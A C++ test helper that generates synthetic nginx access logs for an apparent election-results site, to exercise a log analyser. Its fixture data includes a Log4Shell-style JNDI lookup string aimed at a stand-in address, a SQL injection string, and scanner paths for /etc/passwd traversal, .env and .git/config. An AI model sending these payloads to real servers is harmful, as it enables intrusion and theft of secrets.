#include "UaLogGenerator.h"

#include <QDateTime>
#include <QFile>

#include <algorithm>
#include <array>
#include <cstdio>
#include <string>
#include <vector>

namespace difusor::test {

namespace {

QStringList readLines(const QString &path)
{
    QFile f(path);
    QStringList out;
    if (!f.open(QIODevice::ReadOnly))
        return out;
    for (const QByteArray &l : f.readAll().split('\n'))
        if (!l.isEmpty())
            out << QString::fromUtf8(l);
    return out;
}

struct Rng
{
    std::uint64_t s;
    std::uint64_t next()
    {
        s ^= s << 13;
        s ^= s >> 7;
        s ^= s << 17;
        return s;
    }
    int below(int n) { return static_cast<int>(next() % static_cast<std::uint64_t>(n)); }
    bool chance(int perMille) { return below(1000) < perMille; }
    template<typename T>
    const T &pick(const std::vector<T> &v) { return v[static_cast<std::size_t>(below(static_cast<int>(v.size())))]; }
};

// nginx's default log escaping: '"', '\' and bytes outside 0x20-0x7e as \xHH.
std::string escaped(const std::string &s)
{
    std::string out;
    for (unsigned char c : s) {
        if (c == '"' || c == '\\' || c < 0x20 || c > 0x7e) {
            char b[5];
            std::snprintf(b, sizeof b, "\\x%02X", c);
            out += b;
        } else {
            out += static_cast<char>(c);
        }
    }
    return out;
}

std::string fmt(const char *f, int a, int b = 0, int c = 0, int d = 0)
{
    char buf[256];
    std::snprintf(buf, sizeof buf, f, a, b, c, d);
    return buf;
}

struct Event
{
    std::int64_t t = 0; // UTC seconds since the first day's local midnight (-0600)
    std::string host;
    std::string rest; // after the timestamp
};

std::string rest(const std::string &requestLine, int status, long bytes, const std::string &referer, const std::string &ua)
{
    return '"' + escaped(requestLine) + "\" " + std::to_string(status) + ' ' + (bytes < 0 ? std::string("-") : std::to_string(bytes))
        + " \"" + escaped(referer) + "\" \"" + escaped(ua) + '"';
}

const std::vector<std::string> kPages = {
    "/", "/index.html", "/resultados/", "/resultados/presidencia.html", "/resultados/casilla.php?id=%d",
    "/publicacion/avance?corte=%d&x=1", "/estados/%d/", "/acerca", "/busqueda;jsessionid=%d", "/noticias/%d.html#top",
    "/ayuda.html#preguntas-frecuentes", "/base%%2Ehtml", "/datos.json", "/api/v1/corte/%d", "/feed/",
};
const std::vector<std::string> kAssets = {
    "/static/app.css", "/static/app.js?v=%d", "/img/logo.png", "/img/mapa.svg", "/fonts/roboto.woff2",
    "/img/foto%d.jpg", "/static/tema.%%63ss", "/img/ICONO.PNG", "/static/app.css#x-y", "/rss.xml",
};
const std::vector<std::string> kDownloads = {
    "/descargas/base_datos_%d.zip", "/descargas/acta.pdf", "/video/resumen.mp4", "/descargas/lista.csv", "/notas.txt",
};
const std::vector<std::string> kScans = {
    "/wp-login.php", "/.env", "/cgi-bin/test.cgi", "/../../etc/passwd", "/phpmyadmin/index.php", "/admin/config.php?x=%d",
    "/.git/config", "/%%2e%%2e/%%2e%%2e/", "/xmlrpc.php",
};

int humanStatus(Rng &r)
{
    const int x = r.below(1000);
    if (x < 800)
        return 200;
    if (x < 880)
        return 304;
    if (x < 905)
        return r.chance(500) ? 301 : 302;
    if (x < 940)
        return 404;
    static const std::array<int, 8> rare = {400, 403, 410, 499, 500, 502, 503, 504};
    return rare[static_cast<std::size_t>(r.below(static_cast<int>(rare.size())))];
}

std::string method(Rng &r)
{
    const int x = r.below(1000);
    if (x < 900)
        return "GET";
    if (x < 940)
        return "POST";
    if (x < 965)
        return "HEAD";
    static const std::array<const char *, 8> odd = {"OPTIONS", "PUT", "DELETE", "PATCH", "PROPFIND", "TRACE", "get", "CONNECT"};
    return odd[static_cast<std::size_t>(r.below(static_cast<int>(odd.size())))];
}

std::string requestLine(Rng &r, const std::string &m, const std::string &path)
{
    const int x = r.below(1000);
    if (x < 10)
        return m + ' ' + path; // HTTP/0.9 style: no protocol
    if (x < 15)
        return m + ' ' + path + " extra HTTP/1.1"; // a space in the target
    return m + ' ' + path + (x < 300 ? " HTTP/2.0" : " HTTP/1.1");
}

std::string address(Rng &r, int id, int kind)
{
    // kind 0 browser, 1 crawler, 2 odd client
    const int x = static_cast<int>((static_cast<unsigned>(id) * 2654435761u) % 100u);
    if (x < 10)
        return fmt("2001:db8:%x::%x", kind + 1, id + 1);
    if (x < 14)
        return fmt("::ffff:10.%d.%d.%d", kind, (id >> 8) & 255, id & 255);
    (void)r;
    return fmt("%d.%d.%d.%d", kind == 0 ? 10 : kind == 1 ? 66 : 185, (id >> 16) & 255, (id >> 8) & 255, id & 255);
}

} // namespace

QStringList crawlerUserAgents(const QString &dataDir) { return readLines(dataDir + QStringLiteral("/crawler-user-agents.txt")); }

QStringList browserUserAgents(const QString &dataDir) { return readLines(dataDir + QStringLiteral("/top-user-agents.txt")); }

QStringList oddUserAgents()
{
    return {
        QStringLiteral("-"), QString(), QStringLiteral("0"), QStringLiteral("Mozilla"), QStringLiteral("Mozilla/5.0"),
        QStringLiteral("Mozilla/4.0"), QStringLiteral("mozilla/5.0 (compatible;"), QStringLiteral("x"),
        QStringLiteral("()"), QStringLiteral("' OR 1=1 --"), QStringLiteral("${jndi:ldap://203.0.113.9/a}"),
        QStringLiteral("Navegador Español/1.0 (México)"), QStringLiteral("Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        QStringLiteral("\\\"quoted\\\" agent"), QString(QStringLiteral("A")).repeated(700), QStringLiteral("1"),
        QStringLiteral("Firefox/1.5"), QStringLiteral("MSIE 6.0"), QStringLiteral("Java/17.0.2"),
        QStringLiteral("okhttp/4.9.2"), QStringLiteral("axios/1.6.2"), QStringLiteral("node-fetch/1.0"),
    };
}

VariedLogResult generateVariedLog(const QString &path, const VariedLogOptions &o)
{
    std::vector<std::string> browsers, crawlers, odd;
    for (const QString &s : browserUserAgents(o.dataDir))
        browsers.push_back(s.toStdString());
    for (const QString &s : crawlerUserAgents(o.dataDir))
        crawlers.push_back(s.toStdString());
    for (const QString &s : oddUserAgents())
        odd.push_back(s.toStdString());
    VariedLogResult result;
    if (browsers.empty() || crawlers.empty())
        return result;

    Rng r{o.seed * 0x9E3779B97F4A7C15ULL + 7};
    std::vector<Event> ev;
    const std::int64_t day = 86400;
    const auto site = [](const std::string &p) { return "https://difusor.test" + p; };
    int nextId = 0;
    for (int d = 0; d < o.days; ++d) {
        // Browsers in visits.
        for (int v = 0; v < o.visitorsPerDay; ++v) {
            const int id = (nextId > 20 && r.chance(330)) ? r.below(nextId) : nextId++;
            Rng vr{static_cast<std::uint64_t>(id) * 7919 + 13};
            const std::string &ua = vr.pick(browsers);
            const std::string host = address(vr, id, 0);
            std::int64_t t = d * day + r.below(86400);
            const int sessions = 1 + r.below(3);
            for (int s = 0; s < sessions; ++s) {
                const int pages = 1 + r.below(8);
                std::string referer = r.chance(500) ? "-" : "https://www.google.com/";
                for (int p = 0; p < pages; ++p) {
                    const std::string page = fmt(r.pick(kPages).c_str(), r.below(400));
                    const int st = humanStatus(r);
                    const std::string m = method(r);
                    long bytes = st == 304 ? (r.chance(700) ? 0 : 1234) : 800 + r.below(60000);
                    if (m == "HEAD")
                        bytes = 0;
                    if (r.chance(15))
                        bytes = -1;
                    ev.push_back({t, host, rest(requestLine(r, m, page), st, bytes, referer, ua)});
                    for (int a = r.below(6); a > 0; --a) {
                        const std::string asset = fmt(r.pick(kAssets).c_str(), r.below(60));
                        const int ast = r.chance(150) ? 304 : humanStatus(r);
                        ev.push_back({t + r.below(3), host, rest("GET " + asset + " HTTP/1.1", ast, ast == 304 ? 0 : 200 + r.below(150000), site(page), ua)});
                    }
                    if (r.chance(60)) {
                        // A download, sometimes resumed in parts (206), sometimes partial on a page.
                        const std::string file = fmt(r.pick(kDownloads).c_str(), r.below(20));
                        const int parts = r.chance(500) ? 1 + r.below(3) : 0;
                        ev.push_back({t + 2, host, rest("GET " + file + " HTTP/1.1", parts ? 206 : 200, 10000 + r.below(900000), site(page), ua)});
                        for (int k = 1; k < parts; ++k)
                            ev.push_back({t + 2 + k, host, rest("GET " + file + " HTTP/1.1", 206, 5000 + r.below(400000), site(page), ua)});
                    }
                    if (r.chance(20))
                        ev.push_back({t + 1, host, rest("GET " + page + " HTTP/1.1", 206, 300 + r.below(3000), "-", ua)});
                    if (r.chance(30))
                        ev.push_back({t + 1, host, rest("GET /favicon.ico HTTP/1.1", r.chance(500) ? 200 : 404, 1150, "-", ua)});
                    if (r.chance(8))
                        ev.push_back({t + 1, host, rest("GET /robots.txt HTTP/1.1", 200, 68, "-", ua)});
                    referer = site(page);
                    // Within a visit; now and then exactly on AWStats' one-hour edge (3600: same visit,
                    // 3601: a new one).
                    const int edge = r.below(100);
                    t += edge == 0 ? 3600 : edge == 1 ? 3601 : 5 + r.below(1500);
                }
                t += 3700 + r.below(5 * 3600);
            }
        }
        // Crawlers, feed readers, link previewers, SEO tools.
        for (int k = 0; k < o.visitorsPerDay * 2; ++k) {
            const int id = r.below(3000);
            Rng cr{static_cast<std::uint64_t>(id) * 104729 + 5};
            const std::string &ua = cr.pick(crawlers);
            const std::string host = address(cr, id, 1);
            std::int64_t t = d * day + r.below(86400);
            const int n = 1 + r.below(6);
            for (int i = 0; i < n; ++i) {
                std::string p;
                const int x = r.below(100);
                if (i == 0 && x < 30)
                    p = "/robots.txt";
                else if (x < 40)
                    p = "/sitemap.xml";
                else if (x < 50)
                    p = r.chance(500) ? "/feed/" : "/rss.xml";
                else if (x < 60)
                    p = fmt(r.pick(kAssets).c_str(), r.below(60));
                else if (x < 63)
                    p = fmt(r.pick(kDownloads).c_str(), r.below(20));
                else
                    p = fmt(r.pick(kPages).c_str(), r.below(400));
                const int st = r.chance(850) ? 200 : r.chance(400) ? 304 : r.chance(500) ? 404 : (x < 63 ? 206 : 301);
                ev.push_back({t, host, rest(requestLine(r, r.chance(970) ? "GET" : "HEAD", p), st, st == 304 ? 0 : 300 + r.below(50000), "-", ua)});
                t += 1 + r.below(120);
            }
        }
        // Odd and empty agents, scanners, nginx's "-" request of a connection that sent nothing.
        for (int k = 0; k < o.visitorsPerDay / 4; ++k) {
            const int id = r.below(400);
            const std::string &ua = odd[static_cast<std::size_t>(id % static_cast<int>(odd.size()))];
            const std::string host = address(r, id + 5000, 2);
            std::int64_t t = d * day + r.below(86400);
            for (int n = 1 + r.below(4); n > 0; --n) {
                const bool scan = r.chance(500);
                const std::string p = scan ? fmt(r.pick(kScans).c_str(), r.below(99)) : fmt(r.pick(kPages).c_str(), r.below(400));
                const int st = scan ? (r.chance(800) ? 404 : 200) : humanStatus(r);
                ev.push_back({t, host, rest(requestLine(r, method(r), p), st, r.chance(100) ? -1 : 150 + r.below(9000), "-", ua)});
                t += 1 + r.below(30);
            }
            if (r.chance(100))
                ev.push_back({t, host, "\"-\" 400 0 \"-\" \"-\""});
        }
    }
    std::stable_sort(ev.begin(), ev.end(), [](const Event &a, const Event &b) { return a.t < b.t; });

    // 30 October 2026 00:00 at -0600, in UTC seconds since 1970.
    const std::int64_t base = QDateTime(QDate(2026, 10, 30), QTime(6, 0), Qt::UTC).toSecsSinceEpoch();
    const std::int64_t offsetSwitch = 2 * day + 2 * 3600; // third day 02:00 -0600 becomes 03:00 -0500
    static const char *months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly))
        return result;
    std::string out;
    std::int64_t n = 0;
    for (const Event &e : ev) {
        const int offset = e.t >= offsetSwitch ? -300 : -360;
        const QDateTime wall = QDateTime::fromSecsSinceEpoch(base + e.t + offset * 60, Qt::UTC);
        char stamp[40];
        std::snprintf(stamp, sizeof stamp, "%02d/%s/%04d:%02d:%02d:%02d %c%02d%02d", wall.date().day(),
                      months[wall.date().month() - 1], wall.date().year(), wall.time().hour(), wall.time().minute(),
                      wall.time().second(), offset < 0 ? '-' : '+', std::abs(offset) / 60, std::abs(offset) % 60);
        if (++n % 997 == 0) {
            static const std::array<const char *, 3> bad = {
                "basura sin forma de bitácora",
                "10.9.9.9 - - [%s] \"GET /cortada HTTP/1.1\" 200",
                "10.9.9.9 - - [%s] \"GET / HTTP/1.1\" 2x0 10 \"-\" \"Mozilla/5.0\"",
            };
            char line[256];
            std::snprintf(line, sizeof line, bad[static_cast<std::size_t>(n / 997 % 3)], stamp);
            out += line;
            out += '\n';
            ++result.malformed;
            ++result.lines;
        }
        out += e.host + " - - [" + stamp + "] " + e.rest + '\n';
        ++result.lines;
    }
    f.write(out.data(), static_cast<qint64>(out.size()));
    return result;
}

} // namespace difusor::test
